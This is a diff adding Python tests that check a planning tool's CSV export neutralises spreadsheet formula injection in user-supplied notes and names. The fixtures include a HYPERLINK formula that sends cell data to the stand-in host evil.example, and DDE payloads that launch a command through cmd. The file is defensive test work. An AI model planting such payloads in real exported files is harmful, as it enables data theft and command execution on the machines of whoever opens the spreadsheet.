@@ -159,6 +159,51 @@ def test_render_is_deterministic_and_licensed(built) -> None:
     assert len(cells["cost"].split(".")[1]) == 2 and len(cells["teams_total"].split(".")[1]) == 4
 
 
+FORMULA_NOTES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "-2+3",
+]
+
+
+def test_formula_notes_are_neutralised(tmp_path: Path) -> None:
+    """Notes from a readiness file reach teams.csv as inert text; numbers stay numbers."""
+    s = default_scenario()
+    catch, areas, assignment = synthetic_country()
+    lads = sorted(areas["lad24cd"].unique())[: len(FORMULA_NOTES)]
+    rows = [
+        f'{lad},operating,"{note}"'
+        for lad, note in zip(lads, [n.replace('"', '""') for n in FORMULA_NOTES], strict=True)
+    ]
+    path = tmp_path / "readiness.csv"
+    path.write_text("area_code,readiness,note\n" + "\n".join(rows) + "\n", encoding="utf-8")
+    ready = phasing.read_readiness(path, phasing.known_area_codes(areas))
+    assert sorted(ready["note"]) == sorted(FORMULA_NOTES)
+    plan = phasing.assign_phasing(catch, areas, assignment, ready, s)
+    plan.loc[0, "name"] = "=1+2"  # a name or code is user text too
+    tc = costs.team_year_costs(plan.set_index("team_id")["wave"], s)
+    plan = costs.attach_costs(plan, tc, s)
+    plan["deviation_pct"] = -2.5  # a negative number is a number, not text
+    text = tables.to_csv_text(tables.teams_table(plan, tc, s))
+    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
+    notes = set(back["readiness_note"]) - {""}
+    assert notes == {"'" + n for n in FORMULA_NOTES}
+    assert back.loc[0, "name"] == "'=1+2"
+    assert set(back["deviation_pct"]) == {"-2.50"}
+    for column in back.columns:
+        for cell in back[column]:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
+            assert not cell.startswith("-") or column == "deviation_pct", (column, cell)
+
+
+def test_neutralise_leaves_other_cells_alone() -> None:
+    assert tables.neutralise("Leeds North") == "Leeds North"
+    assert tables.neutralise("\rx") == "'\rx" and tables.neutralise("\t=1") == "'\t=1"
+    assert tables.neutralise(-3) == -3 and tables.neutralise(-3.5) == -3.5
+    assert tables.neutralise("'=already") == "'=already"
+
+
 def test_fixed_formatting_rounds_half_up() -> None:
     assert tables._fixed(0.125, 2) == "0.13" and tables._fixed(2.5, 0) == "3"
     assert tables._fixed(-0.001, 2) == "0.00" and tables._fixed(float("nan"), 2) == ""
